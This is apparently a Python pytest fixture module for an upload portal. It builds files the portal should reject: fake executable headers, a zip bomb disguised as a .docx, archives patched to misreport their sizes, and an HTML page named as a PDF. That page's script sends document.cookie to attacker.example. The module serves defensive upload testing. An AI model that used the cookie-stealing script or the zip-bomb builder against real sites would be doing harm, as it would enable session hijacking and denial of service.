"""Real files, good and hostile, for the upload tests: every upload on the portal is fed the same
disguised programs, web page, zip bomb, empty file and files at and just over its limit."""

import functools
import io
import struct
import zipfile
from pathlib import Path

import pytest

from tests.factories import MINIMAL_PDF

# The first bytes of real programs, padded so they are more than a signature.
WINDOWS_PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 240
LINUX_PROGRAM = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 248
WEB_PAGE = (
    b"<!DOCTYPE html>\n<html><head><title>Resume</title></head>"
    b"<body><script>document.location='https://attacker.example/'+document.cookie</script>"
    b"</body></html>\n"
)
JPEG_BYTES = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x00" * 64
PNG_BYTES = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 64
OFFICE_FOLDERS = {"docx": ("word/", "document.xml"), "xlsx": ("xl/", "workbook.xml"),
                  "pptx": ("ppt/", "presentation.xml")}  # fmt: skip
MB = 1024 * 1024


def office_bytes(kind="docx", extra=()):
    """A minimal but real Office Open XML archive; ``extra`` adds (name, bytes) parts."""
    folder, part = OFFICE_FOLDERS[kind]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        archive.writestr("_rels/.rels", "<Relationships/>")
        archive.writestr(f"{folder}{part}", "<document>Hello</document>")
        for name, data in extra:
            archive.writestr(name, data)
    return buffer.getvalue()


@functools.cache
def zip_bomb(kind="docx", unpacked_mb=120):
    """A small file shaped like an Office document whose one extra part unpacks to
    ``unpacked_mb`` megabytes of zeros (about a thousand times what it takes packed)."""
    folder, part = OFFICE_FOLDERS[kind]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr(f"{folder}{part}", "<document/>")
        zeros = bytes(MB)
        with archive.open(f"{folder}media/filler.bin", "w") as filler:
            for _ in range(unpacked_mb):
                filler.write(zeros)
    return buffer.getvalue()


def with_lying_sizes(data: bytes) -> bytes:
    """The same archive with every part claiming to unpack to 10 bytes: a check that trusted the
    sizes written in the archive would let it through."""
    patched = bytearray(data)
    at = 0
    while (at := patched.find(b"PK\x01\x02", at)) >= 0:  # central directory entries
        patched[at + 24 : at + 28] = struct.pack("<I", 10)
        at += 4
    at = 0
    while (at := patched.find(b"PK\x03\x04", at)) >= 0:  # local headers
        patched[at + 22 : at + 26] = struct.pack("<I", 10)
        at += 4
    return bytes(patched)


def with_encryption_flag(data: bytes) -> bytes:
    """The archive with its parts marked as password-protected."""
    patched = bytearray(data)
    at = 0
    while (at := patched.find(b"PK\x01\x02", at)) >= 0:
        flags = struct.unpack("<H", patched[at + 8 : at + 10])[0] | 0x1
        patched[at + 8 : at + 10] = struct.pack("<H", flags)
        at += 4
    return bytes(patched)


def pdf_of_size(size: int) -> bytes:
    return MINIMAL_PDF + b"0" * (size - len(MINIMAL_PDF))


def csv_of_size(size: int, text: bytes = b"email\nsomeone@example.com\n") -> bytes:
    """``text`` padded to exactly ``size`` bytes with blank lines (which every importer skips)."""
    padding = size - len(text)
    blank = b" " * 79 + b"\n"
    return text + blank * (padding // len(blank)) + b" " * (padding % len(blank))


def hostile_files(name: str, *, bomb_name: str = ""):
    """(test id, file name, bytes) of the files every upload must refuse; ``name`` is the
    innocent name each arrives under (e.g. 'resume.pdf'), the web page always ends in .pdf and
    the zip bomb is shaped like a .docx (``bomb_name`` names it otherwise)."""
    stem = Path(name).stem
    return [
        ("windows-program", name, WINDOWS_PROGRAM),
        ("linux-program", name, LINUX_PROGRAM),
        ("web-page-named-pdf", f"{stem}.pdf", WEB_PAGE),
        ("zip-bomb", bomb_name or f"{stem}.docx", zip_bomb()),
        ("empty", name, b""),
    ]


def hostile_params(name: str, words: dict, *, bomb_name: str = ""):
    """``hostile_files`` as pytest parameters (file name, bytes, words the page must show)."""
    return [
        pytest.param(file_name, data, words[case], id=case)
        for case, file_name, data in hostile_files(name, bomb_name=bomb_name)
    ]


def stored_files(root) -> list[str]:
    """Every file under a storage folder (the test's own private media folder)."""
    root = Path(root)
    return sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file())
